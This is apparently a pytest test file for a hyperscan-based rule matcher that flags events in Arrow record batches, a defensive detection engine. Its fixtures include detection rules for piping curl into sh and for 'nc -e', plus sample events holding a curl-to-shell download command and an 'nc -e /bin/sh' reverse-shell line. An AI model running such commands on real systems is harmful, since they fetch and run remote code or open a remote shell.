from __future__ import annotations

import pickle

import hyperscan
import numpy as np
import pyarrow as pa
import pytest

import etl.matching.matcher as matcher_mod
from etl.matching.matcher import Matcher, apply_mode
from etl.optimize import compile_rules
from etl.optimize.reference import matched_rules
from tests.optimize.golden import rules_of

RULES = rules_of([
    {"id": "curl_sh", "when": {"field": "cmd", "regex": "curl .*\\| *sh"}},
    {"id": "root_wget", "when": {"all": [{"field": "user", "eq": "root"}, {"field": "cmd", "contains": "WGET", "caseless": True}]}},
    {"id": "not_local", "when": {"not": {"field": "host", "ends_with": ".local"}}},
    {"id": "high_port_or_nc", "when": {"any": [{"field": "port", "gt": 1024}, {"field": "cmd", "like": "%nc -e%"}]}},
    {"id": "private_ip", "when": {"field": "ip", "cidr": ["10.0.0.0/8", "192.168.0.0/16"]}},
    {"id": "backref", "when": {"field": "cmd", "regex": "(\\w)\\1\\1"}},
    {"id": "word", "when": {"field": "cmd", "regex": "\\bfoo\\b"}},
    {"id": "blank", "when": {"field": "cmd", "regex": "^\\s*$"}},
])

EVENTS = [
    {"cmd": "curl http://x/a.sh | sh", "user": "app", "host": "web.local", "port": 80, "ip": "10.1.2.3"},
    {"cmd": "Wget http://y", "user": "root", "host": "db.local", "port": 2222, "ip": "8.8.8.8"},
    {"cmd": "nc -e /bin/sh h 4444", "user": "root", "host": "x.example", "port": 22, "ip": "192.168.7.1"},
    {"cmd": None, "user": None, "host": None, "port": None, "ip": None},
    {"cmd": "aaa foo", "user": "bob", "host": "a.local", "port": 1024, "ip": "not an ip"},
    {"cmd": "\u00e9foo", "user": "bob", "host": "a.local", "port": 1, "ip": "::1"},
    {"cmd": "  \n", "user": "bob", "host": "a.local", "port": 1, "ip": "10.0.0.1"},
]

EXPECTED = [
    ["curl_sh", "private_ip"],
    ["root_wget", "high_port_or_nc"],
    ["not_local", "high_port_or_nc", "private_ip", "backref"],
    ["not_local"],
    ["backref", "word"],
    [],
    ["private_ip", "blank"],
]


@pytest.fixture(scope="module")
def program():
    return compile_rules(RULES)


def test_exact_rule_ids(program):
    assert [matched_rules(RULES, e) for e in EVENTS] == EXPECTED  # the reference agrees with the table
    res = Matcher(program, cache=False).match(pa.RecordBatch.from_pylist(EVENTS))
    assert res.matched_ids() == EXPECTED
    assert res.mask().tolist() == [True, True, True, True, True, False, True]


def test_modes(program):
    batch = pa.RecordBatch.from_pylist(EVENTS)
    res = Matcher(program, cache=False).match(batch)
    assert apply_mode(batch, res, "keep").column("port").to_pylist() == [80, 2222, 22, None, 1024, 1]
    assert apply_mode(batch, res, "drop").column("port").to_pylist() == [1]
    tagged = apply_mode(batch, res, "tag", "rules")
    assert tagged.schema.field("rules").type == pa.list_(pa.string())
    assert tagged.column("rules").to_pylist() == EXPECTED


def test_sliced_and_large_string_batches(program):
    batch = pa.RecordBatch.from_pylist(EVENTS)
    sliced = batch.slice(2, 4)
    assert Matcher(program, cache=False).match(sliced).matched_ids() == EXPECTED[2:6]
    large = pa.RecordBatch.from_arrays(
        [c.cast(pa.large_string()) if c.type == pa.string() else c for c in batch.columns], schema=None,
        names=batch.schema.names)
    assert Matcher(program, cache=False).match(large).matched_ids() == EXPECTED
    view = pa.RecordBatch.from_arrays(
        [c.cast(pa.string_view()) if c.type == pa.string() else c for c in batch.columns], names=batch.schema.names)
    assert Matcher(program, cache=False).match(view).matched_ids() == EXPECTED


def test_non_text_values_nested_and_missing_fields():
    rules = rules_of([
        {"id": "port_8", "when": {"field": "port", "regex": "^8"}},
        {"id": "flag_like", "when": {"field": "flag", "like": "tr%"}},
        {"id": "ratio_text", "when": {"field": "ratio", "contains": ".5"}},
        {"id": "nested", "when": {"field": "meta.host", "starts_with": "db"}},
        {"id": "missing", "when": {"field": "nope", "regex": "x"}},
        {"id": "missing_null", "when": {"field": "nope.deeper", "is_null": True}},
    ])
    events = [
        {"port": 8080, "flag": True, "ratio": 0.5, "meta": {"host": "db1"}},
        {"port": 80, "flag": False, "ratio": 1.0, "meta": {"host": None}},
        {"port": None, "flag": None, "ratio": None, "meta": None},
    ]
    res = Matcher(compile_rules(rules), cache=False).match(pa.RecordBatch.from_pylist(events))
    assert res.matched_ids() == [
        ["port_8", "flag_like", "ratio_text", "nested", "missing_null"],
        ["port_8", "missing_null"],
        ["missing_null"],
    ]
    assert res.matched_ids() == [matched_rules(rules, e) for e in events]


def test_patterns_scan_only_native_survivors(monkeypatch):
    rules = rules_of([
        {"id": "bash_curl", "when": {"all": [{"field": "proc", "eq": "bash"}, {"field": "cmd", "regex": "curl"}]}},
        {"id": "sh_wget", "when": {"all": [{"field": "proc", "eq": "sh"}, {"field": "cmd", "regex": "wget"}]}},
    ])
    program = compile_rules(rules)
    scanned = []
    real_scan = matcher_mod._scan

    def spy(db, values, rows):
        scanned.append(None if rows is None else rows.tolist())
        return real_scan(db, values, rows)

    monkeypatch.setattr(matcher_mod, "_scan", spy)
    procs = ["bash", "python", "sh", "java", "bash", None]
    cmds = ["curl x", "curl y", "wget z", "curl", "wget", "curl"]
    batch = pa.RecordBatch.from_pydict({"proc": procs, "cmd": cmds})
    res = Matcher(program, cache=False).match(batch)
    assert scanned == [[0, 2, 4]]  # only rows where proc is bash or sh
    assert res.matched_ids() == [["bash_curl"], [], ["sh_wget"], [], [], []]


def test_database_loaded_once_per_process(monkeypatch):
    program = compile_rules(rules_of([{"id": "r", "when": {"field": "cmd", "regex": "only-once-\\d"}}]))
    loads = []
    real = hyperscan.loadb
    monkeypatch.setattr(hyperscan, "loadb", lambda buf, mode: loads.append(1) or real(buf, mode))
    batch = pa.RecordBatch.from_pydict({"cmd": ["only-once-1", "x"]})
    for _ in range(3):
        assert Matcher(program, cache=False).match(batch).matched_ids() == [["r"], []]
    assert len(loads) == 1
    shipped = pickle.loads(pickle.dumps(program))  # what an executor receives
    assert Matcher(shipped, cache=False).match(batch).matched_ids() == [["r"], []]


def test_empty_batch_and_empty_rules(program):
    empty = pa.RecordBatch.from_pylist([], schema=pa.RecordBatch.from_pylist(EVENTS).schema)
    res = Matcher(program).match(empty)
    assert res.matched_ids() == [] and len(res.to_arrow()) == 0
    nothing = compile_rules([])
    res = Matcher(nothing).match(pa.RecordBatch.from_pylist(EVENTS))
    assert res.matched_ids() == [[]] * len(EVENTS)
    assert np.array_equal(res.mask(), np.zeros(len(EVENTS), bool))


def test_a_general_rule_is_a_candidate_only_where_its_trigger_fires():
    from etl.matching.ir import And, Or, Pred
    from etl.matching.matcher import trigger_leaves

    pats = {0, 1, 2, 3}
    shared = {0: 50, 1: 1, 2: 2, 3: 1}  # leaf 0 is read by 50 rules: it fires more often
    # (p0 or native n9) and (p1 or p2): the first child has no trigger set, the second one is it
    assert trigger_leaves(And((Or((Pred(0), Pred(9))), Or((Pred(1), Pred(2))))), pats, shared) == {1, 2}
    # p0 and p3: the less shared pattern
    assert trigger_leaves(And((Pred(0), Pred(3))), pats, shared) == {3}
    assert trigger_leaves(Or((Pred(0), Pred(9))), pats, shared) is None
